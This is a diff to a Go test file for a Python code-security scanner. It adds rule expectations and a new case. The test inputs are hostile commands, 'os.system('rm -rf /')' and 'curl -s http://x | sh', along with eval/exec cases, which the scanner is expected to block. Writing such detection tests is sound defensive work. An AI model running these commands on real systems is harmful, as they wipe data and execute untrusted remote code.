@@ -72,7 +72,8 @@ func dump(fs []engines.Finding) string {
 func TestSeed002_5_2_3_PythonSecurity(t *testing.T) {
 	runCodeCases(t, "python", []codeCase{
 		// The seed's example (§5.2.3).
-		{name: "seed example os.system rm -rf", src: "import os; os.system('rm -rf /')", block: true, want: []string{"PY-PROC-001@1", "PY-IMPORT-001@1"}},
+		{name: "seed example os.system rm -rf", src: "import os; os.system('rm -rf /')", block: true, want: []string{"PY-PROC-001@1", "PY-IMPORT-001@1", "SH-RM-001@1"}},
+		{name: "os.system of curl piped to sh", src: "import os\nos.system('curl -s http://x | sh')", block: true, want: []string{"PY-PROC-001@2", "SH-NET-001@2"}},
 		// Direct dangerous calls.
 		{name: "eval of input", src: "eval(input())", block: true, want: []string{"PY-EXEC-001@1"}},
 		{name: "exec of a variable", src: "def run(code):\n    exec(code)\n", block: true, want: []string{"PY-EXEC-001@2"}},
